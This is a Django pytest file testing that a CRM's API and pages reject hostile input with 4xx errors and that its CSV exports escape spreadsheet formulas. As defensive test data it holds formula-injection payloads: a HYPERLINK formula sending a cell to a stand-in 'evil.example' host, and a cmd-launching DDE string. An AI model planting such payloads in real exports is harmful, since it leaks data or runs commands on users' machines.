"""Hostile input gets a 4xx naming the problem, never a 500, and nothing is stored.

Deep nesting, NUL and lone-surrogate characters, oversize fields, wrong content types and
`OPTIONS`, on every API endpoint (taken from the OpenAPI schema, so a new endpoint is covered
without editing this file) and on the pages' filters and forms; and every CSV Baton writes escapes
the cells a spreadsheet would run as formulas. PostgreSQL refuses NUL in text where SQLite stores
it, so these tests matter most in the PostgreSQL pass.
"""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest
from django.core.cache.backends.locmem import LocMemCache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from drf_spectacular.generators import SchemaGenerator
from rest_framework.test import APIClient

from crm.csv_cells import safe_cell
from crm.parsers import MAX_JSON_DEPTH, json_depth_problem
from handoff import services as handoff_services
from handoff.models import RejectionReason
from leads import api, csv_import, ingestion
from leads.lifecycle import Stage
from leads.models import Activity, Campaign, Channel, FormSource, Lead
from tests import factories

pytestmark = pytest.mark.django_db

CAPTURE = "/api/v1/forms/capture/"
ACTIVITIES = "/api/v1/activities/"
LEADS = "/api/v1/leads/"

_SCHEMA = SchemaGenerator().get_schema(request=None, public=True)
OPERATIONS = sorted(
    (method.upper(), path)
    for path, operations in _SCHEMA["paths"].items()
    for method in operations
    if method in {"get", "post", "put", "patch", "delete"}
)
WRITES = [(method, path) for method, path in OPERATIONS if method != "GET"]
# The writes that read a body; the others (accept, revoke, delete) never parse one.
BODIES = [(m, p) for m, p in WRITES if "requestBody" in _SCHEMA["paths"][p][m.lower()]]
BODYLESS = [(m, p) for m, p in WRITES if (m, p) not in BODIES]
READS = [(method, path) for method, path in OPERATIONS if method == "GET"]
PATHS = sorted({path for _, path in OPERATIONS})

DEEP_LIST = "[" * 10_000 + "]" * 10_000
DEEP_OBJECT = '{"a":' * 10_000 + "1" + "}" * 10_000


@pytest.fixture(autouse=True)
def fresh_throttle_counts(monkeypatch):
    """Form-capture throttles count from zero in a cache of their own (see test_api_ingestion)."""
    counts = LocMemCache("hostile-input-throttle-test", {})
    counts.clear()
    monkeypatch.setattr(api._FormCaptureThrottle, "cache", counts)


@pytest.fixture
def world(manager):
    """A lead and a campaign for the paths' ids and slugs, a form key, a manager's API client."""
    lead = factories.lead_at_stage(Stage.MQL)
    campaign = factories.CampaignFactory(slug="spring")
    _, key = ingestion.form_source_create(name="Website", campaign=campaign, default_channel=Channel.ORGANIC_SEARCH)
    client = APIClient(raise_request_exception=False)
    client.force_login(manager)
    return {"lead": lead, "campaign": campaign, "key": key, "client": client}


def url(path: str, world: dict[str, Any]) -> str:
    path = path.replace("{id}", str(world["lead"].pk)).replace("{slug}", world["campaign"].slug)
    return re.sub(r"\{[a-z_]+\}", "1", path)


def send(world: dict[str, Any], method: str, path: str, body: str | bytes, content_type: str, **extra: Any):
    extra.setdefault("HTTP_X_BATON_FORM_KEY", world["key"])  # ignored everywhere but form capture
    return world["client"].generic(method, url(path, world), body, content_type=content_type, **extra)


def stored() -> tuple[int, int, int]:
    return Lead.objects.count(), Activity.objects.count(), Campaign.objects.count()


def problem(response) -> str:  # type: ignore[no-untyped-def]
    assert response["Content-Type"].startswith("application/json"), response.content[:300]
    return json.dumps(response.json(), ensure_ascii=False)


# --- Deep nesting -------------------------------------------------------------------------------


@pytest.mark.parametrize("body", [DEEP_LIST, DEEP_OBJECT], ids=["list", "object"])
@pytest.mark.parametrize(("method", "path"), BODIES)
def test_deeply_nested_json_is_400_naming_the_nesting_on_every_endpoint(world, method, path, body):
    before = stored()

    response = send(world, method, path, body, "application/json")

    assert response.status_code == 400, (response.status_code, response.content[:300])
    assert "nested more than" in problem(response)
    assert stored() == before


@pytest.mark.parametrize("key", ["valid", "none", "in the body"])
def test_deep_json_to_form_capture_is_400_with_or_without_a_key(world, key):
    extra = {"HTTP_X_BATON_FORM_KEY": world["key"] if key == "valid" else ""}
    body = DEEP_OBJECT if key != "in the body" else '{"form_key": "' + world["key"] + '", "x": ' + DEEP_LIST + "}"

    response = APIClient(raise_request_exception=False).generic(
        "POST", CAPTURE, body, content_type="application/json", **extra
    )

    assert response.status_code == 400
    assert "nested more than" in problem(response)
    assert stored() == (1, 0, 1)  # the lead and campaign of `world`


def test_deep_json_to_form_capture_while_throttled_is_never_500(world, settings):
    settings.REST_FRAMEWORK = {
        **settings.REST_FRAMEWORK,
        "DEFAULT_THROTTLE_RATES": {"form_capture_key": "1/min", "form_capture_ip": "1/min"},
    }
    client = APIClient(raise_request_exception=False)
    first = client.post(CAPTURE, {"email": "ada@analytical.io"}, format="json", HTTP_X_BATON_FORM_KEY=world["key"])
    assert first.status_code == 201

    # The key throttle reads the key from the body when the header has none: it parses first.
    for extra in ({"HTTP_X_BATON_FORM_KEY": world["key"]}, {}):
        response = client.generic("POST", CAPTURE, DEEP_LIST, content_type="application/json", **extra)
        assert response.status_code in {400, 429}, response.content[:300]
    assert Lead.objects.count() == 2  # the lead of `world`, and the one captured


def test_ordinary_nesting_still_parses(world):
    properties = {"a": {"b": {"c": {"d": [1, [2, [3]]]}}}}
    body = [{"email": "ada@analytical.io", "type": "page_view", "source_system": "web", "properties": properties}]

    response = world["client"].post(ACTIVITIES, body, format="json")

    assert response.status_code == 200, response.json()
    assert response.json()["created"] == 1
    assert Activity.objects.get().properties == properties


@pytest.mark.parametrize(
    ("body", "refused"),
    [
        (b"[" * MAX_JSON_DEPTH + b"]" * MAX_JSON_DEPTH, None),
        (b"[" * (MAX_JSON_DEPTH + 1) + b"]" * (MAX_JSON_DEPTH + 1), "nested more than"),
        (b"[{" * 17 + b"}]" * 17, "nested more than"),  # 34 levels of both kinds
        (b"[[]" * 40 + b"]" * 40, "nested more than"),  # deep without a long run of openings
        (b'["[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[["]', None),  # brackets inside a string
        (rb'["\\", "\"[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[", "\\\""]', None),  # escaped \\ and \" around them
        (b"[" * 100_000, "do not match"),  # never closed: the decoder would recurse through it
    ],
)
def test_json_depth_is_measured_without_recursing(body, refused):
    problem = json_depth_problem(body, max_depth=MAX_JSON_DEPTH)

    assert problem is None if refused is None else refused in problem


# --- NUL and lone surrogates ---------------------------------------------------------------------

BAD_TEXT = {"nul": ("\\u0000", "NUL"), "surrogate": ("\\ud800", "surrogate")}


@pytest.mark.parametrize("bad", BAD_TEXT)
@pytest.mark.parametrize(("method", "path"), BODIES)
def test_nul_and_lone_surrogates_in_json_are_400_on_every_endpoint(world, method, path, bad):
    if path == ACTIVITIES:
        pytest.skip("a batch answers item by item: test_a_bad_character_in_a_batch_is_that_items_error")
    escape, word = BAD_TEXT[bad]
    body = '{"email": "ada@analytical.io", "first_name": "A' + escape + 'da", "properties": {"k": "' + escape + '"}}'
    before = stored()

    response = send(world, method, path, body, "application/json")

    assert response.status_code == 400, (response.status_code, response.content[:300])
    assert word in problem(response)
    assert stored() == before


@pytest.mark.parametrize("bad", BAD_TEXT)
def test_a_bad_character_in_a_batch_is_that_items_error(world, bad):
    escape, word = BAD_TEXT[bad]
    good = '{"email": "good@analytical.io", "type": "page_view", "source_system": "web", "external_id": "g1"}'
    bad_item = '{"email": "ada@analytical.io", "type": "page_view", "properties": {"k": "' + escape + '"}}'

    response = send(world, "POST", ACTIVITIES, f"[{good}, {bad_item}]", "application/json")

    assert response.status_code == 200, response.content[:300]
    results = response.json()["results"]
    assert results[0]["status"] == "created"
    assert results[1]["status"] == "error"
    assert word in json.dumps(results[1]["errors"])
    assert Activity.objects.filter(external_id="g1").exists()


@pytest.mark.parametrize("body", [DEEP_LIST, '{"reason": "\\u0000"}'], ids=["deep", "nul"])
@pytest.mark.parametrize(("method", "path"), BODYLESS)
def test_a_hostile_body_to_an_endpoint_that_reads_none_is_never_500(world, method, path, body):
    response = send(world, method, path, body, "application/json")

    assert response.status_code < 500


def test_an_escaped_backslash_before_u0000_is_plain_text_not_nul(world):
    body = json.dumps([{"email": "ada@analytical.io", "type": "page_view", "source_system": "web",
                        "properties": {"path": "C:\\u0000\\dir", "emoji": "\U0001f600"}}])  # fmt: skip

    response = world["client"].generic("POST", ACTIVITIES, body, content_type="application/json")

    assert response.status_code == 200, response.json()
    assert Activity.objects.get().properties == {"path": "C:\\u0000\\dir", "emoji": "\U0001f600"}


@pytest.mark.parametrize("encoding", ["json", "urlencoded", "multipart"])
def test_nul_in_a_form_capture_field_is_400_and_stores_nothing(world, encoding):
    data = {"email": "ada@analytical.io", "message": "hello\x00world", "utm_source": "news\x00letter"}
    client = APIClient(raise_request_exception=False)
    extra = {"HTTP_X_BATON_FORM_KEY": world["key"]}
    if encoding == "urlencoded":
        from urllib.parse import urlencode

        response = client.post(CAPTURE, urlencode(data), content_type="application/x-www-form-urlencoded", **extra)
    else:
        response = client.post(CAPTURE, data, format=encoding, **extra)

    assert response.status_code == 400, response.content[:300]
    assert "NUL" in problem(response)
    assert "message" in problem(response)
    assert stored() == (1, 0, 1)


@pytest.mark.parametrize(("method", "path"), BODIES)
def test_nul_in_a_form_encoded_body_is_400_on_every_endpoint(world, method, path):
    before = stored()

    response = send(
        world, method, path, "email=ada%40analytical.io&first_name=A%00da", "application/x-www-form-urlencoded"
    )

    assert response.status_code == 400, (response.status_code, response.content[:300])
    assert "NUL" in problem(response)
    assert "first_name" in problem(response)
    assert stored() == before


@pytest.mark.parametrize(("method", "path"), READS)
def test_nul_in_the_query_string_is_400_naming_the_parameter_on_every_endpoint(world, method, path):
    response = world["client"].get(url(path, world) + "?q=a%00b&sort=%00")

    assert response.status_code == 400, (response.status_code, response.content[:300])
    body = problem(response)
    assert "NUL" in body
    assert "q" in response.json()


@pytest.mark.parametrize(("method", "path"), READS)
def test_a_lone_surrogate_in_the_query_string_is_never_500(world, method, path):
    # %ED%A0%80 is U+D800 in (invalid) UTF-8: decoded as replacement characters, harmless.
    response = world["client"].get(url(path, world) + "?q=%ED%A0%80")

    assert response.status_code < 500


@pytest.mark.parametrize(
    "page",
    ["leads:list", "handoff:queue", "reporting:funnel", "reporting:feedback"],
)
@pytest.mark.parametrize("query", ["q=%00", "campaign=%00", "source_detail=x%00", "from=2026-01-01%00"])
def test_nul_in_a_pages_filters_is_400_never_500(manager, page, query):
    client = Client(raise_request_exception=False)
    client.force_login(manager)

    response = client.get(f"{reverse(page)}?{query}")

    assert response.status_code == 400
    assert "NUL" in response.content.decode()


@pytest.mark.parametrize("encoding", ["urlencoded", "multipart"])
def test_nul_in_a_pages_form_is_refused_and_changes_nothing(manager, encoding):
    lead = factories.LeadFactory(first_name="Ada")
    client = Client(raise_request_exception=False)
    client.force_login(manager)
    edit = reverse("leads:edit", args=[lead.pk])

    if encoding == "urlencoded":  # refused at the door, naming the field
        from urllib.parse import urlencode

        data = urlencode({"first_name": "A\x00da", "email": lead.email})
        response = client.post(edit, data, content_type="application/x-www-form-urlencoded")
        assert response.status_code == 400
        assert "first_name" in response.content.decode()
    else:  # multipart bodies carry files: the form's own validation refuses the field
        response = client.post(edit, {"first_name": "A\x00da", "email": lead.email})
        assert response.status_code == 200
        assert "Null characters are not allowed." in response.context["form"].errors["first_name"]
    lead.refresh_from_db()
    assert lead.first_name == "Ada"


# --- Oversize fields -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "method", "body", "field"),
    [
        (LEADS, "POST", {"email": "ada@analytical.io", "first_name": "x" * 5_000}, "first_name"),
        (LEADS, "POST", {"email": "a" * 300 + "@analytical.io"}, "email"),
        ("/api/v1/leads/upsert/", "PUT", {"email": "ada@analytical.io", "job_title": "x" * 5_000}, "job_title"),
        ("/api/v1/campaigns/", "POST", {"slug": "s" * 500, "name": "Spring", "channel": "event"}, "slug"),
        (CAPTURE, "POST", {"email": "ada@analytical.io", "message": "x" * 5_000}, "message"),
    ],
)
def test_oversize_fields_are_400_naming_the_field(world, path, method, body, field):
    before = stored()

    response = send(world, method, path, json.dumps(body), "application/json")

    assert response.status_code == 400, (response.status_code, response.content[:300])
    assert field in response.json()
    assert stored() == before


def test_an_oversize_form_capture_body_is_413_before_anything_parses(world):
    body = '{"email": "ada@analytical.io", "x": ' + "[" * 200_000 + "]" * 200_000 + "}"

    response = send(world, "POST", CAPTURE, body, "application/json")

    assert response.status_code == 413


# --- Wrong content types -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content_type", "body"),
    [("text/plain", "email=ada@analytical.io"), ("application/xml", "<lead><email>a@b.io</email></lead>")],
)
@pytest.mark.parametrize(("method", "path"), BODIES)
def test_a_content_type_the_api_does_not_read_is_415(world, method, path, content_type, body):
    response = send(world, method, path, body, content_type)

    assert response.status_code == 415, (response.status_code, response.content[:300])
    assert content_type in problem(response)


def test_multipart_to_the_json_only_batch_endpoint_is_415(world):
    response = world["client"].post(ACTIVITIES, {"email": "ada@analytical.io"}, format="multipart")

    assert response.status_code == 415
    assert "multipart/form-data" in problem(response)


def test_json_that_is_not_utf8_is_400(world):
    response = send(world, "POST", LEADS, b'{"email": "j\xe9r\xf4me@analytical.io"}', "application/json")

    assert response.status_code == 400
    assert "UTF-8" in problem(response)


def test_a_multipart_upload_to_form_capture_keeps_text_fields_only(world):
    upload = SimpleUploadedFile("cv.txt", b"\x00\x01binary", content_type="application/octet-stream")

    response = APIClient().post(
        CAPTURE, {"email": "ada@analytical.io", "cv": upload}, format="multipart", HTTP_X_BATON_FORM_KEY=world["key"]
    )

    assert response.status_code == 201, response.content[:300]
    assert "cv" not in Activity.objects.get().properties


# --- OPTIONS -------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", PATHS)
def test_options_answers_200_with_the_allowed_methods_on_every_endpoint(world, path):
    documented = {method.upper() for method, _ in OPERATIONS if _ == path}

    response = world["client"].options(url(path, world))

    assert response.status_code == 200, (response.status_code, response.content[:300])
    allowed = {method.strip() for method in response["Allow"].split(",")}
    assert documented <= allowed
    assert "OPTIONS" in allowed
    assert set(response.json()["allowed_methods"]) == allowed


def test_options_of_a_lead_that_does_not_exist_is_still_answered_without_reading_it(world):
    response = world["client"].options("/api/v1/leads/999999/accept/")

    assert response.status_code == 200
    assert "POST" in response["Allow"]


def test_options_needs_a_signed_in_user_except_on_the_public_form_endpoint():
    client = APIClient(raise_request_exception=False)

    assert client.options(LEADS).status_code == 401
    assert client.options(CAPTURE).status_code == 200


# --- CSV cells a spreadsheet would run -----------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "-5"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-1.5e3", "-1.5e3"),
        ("plain", "plain"),
        ("", ""),
        (-5, "-5"),
        (2.5, "2.5"),
        (None, ""),
    ],
)
def test_safe_cell_escapes_what_a_spreadsheet_would_run_and_keeps_plain_numbers(value, written):
    assert safe_cell(value) == written


def test_the_failed_rows_csv_of_an_import_escapes_formulas(
    marketer, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.MEDIA_ROOT = tmp_path
    text = f'email,first name,title\nnot-an-email,"{FORMULA.replace(chr(34), chr(34) * 2)}",@SUM(A1:A2)\n'
    upload = SimpleUploadedFile("leads.csv", text.encode(), content_type="text/csv")
    record = csv_import.csv_import_create(upload=upload, kind="leads", encoding="utf-8-sig", user=marketer)
    csv_import.csv_import_map(import_id=record.pk, mapping={"email": "email", "first_name": "first name",
                                                            "job_title": "title"})  # fmt: skip
    with django_capture_on_commit_callbacks(execute=True):
        csv_import.csv_import_start(import_id=record.pk)
    record.refresh_from_db()

    client = Client()
    client.force_login(marketer)
    response = client.get(reverse("leads:import_failures", args=[record.pk]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))

    assert rows[0] == ["row", "error", "email", "first name", "title"]
    assert rows[1][2:] == ["not-an-email", "'" + FORMULA, "'@SUM(A1:A2)"]


def test_a_report_csv_escapes_formulas_in_its_cells_and_its_header(manager, marketer, mql):
    RejectionReason.objects.create(code="evil", label=FORMULA)
    lead = mql(source_channel="webinar", campaign=factories.CampaignFactory(name="@SUM(A1:A9)"))
    handoff_services.lead_disqualify_from_queue(lead_id=lead.pk, user=marketer, reason_code="evil")
    client = Client()
    client.force_login(manager)

    response = client.get(
        reverse("reporting:feedback"), {"period": "30d", "by": "campaign", "format": "csv", "table": "reasons"}
    )

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert "'" + FORMULA in rows[0]
    assert FORMULA not in rows[0]
    assert [row[0] for row in rows[1:] if "SUM" in row[0]] == ["'@SUM(A1:A9)"]


def test_form_capture_still_works_for_ordinary_input(world):
    response = APIClient().post(
        CAPTURE, {"email": "ada@analytical.io", "message": "Hi"}, format="json", HTTP_X_BATON_FORM_KEY=world["key"]
    )

    assert response.status_code == 201
    assert FormSource.objects.count() == 1
    assert Lead.objects.filter(email="ada@analytical.io").exists()


def test_an_unknown_api_address_answers_json_and_an_unknown_page_the_page(client):
    response = client.get("/api/v1/leads/null,null/")
    assert response.status_code == 404
    assert response["Content-Type"] == "application/json"
    assert response.json() == {"detail": "Not found: no API endpoint has this address."}
    page = client.get("/no-such-page/")
    assert page.status_code == 404
    assert page["Content-Type"].startswith("text/html")
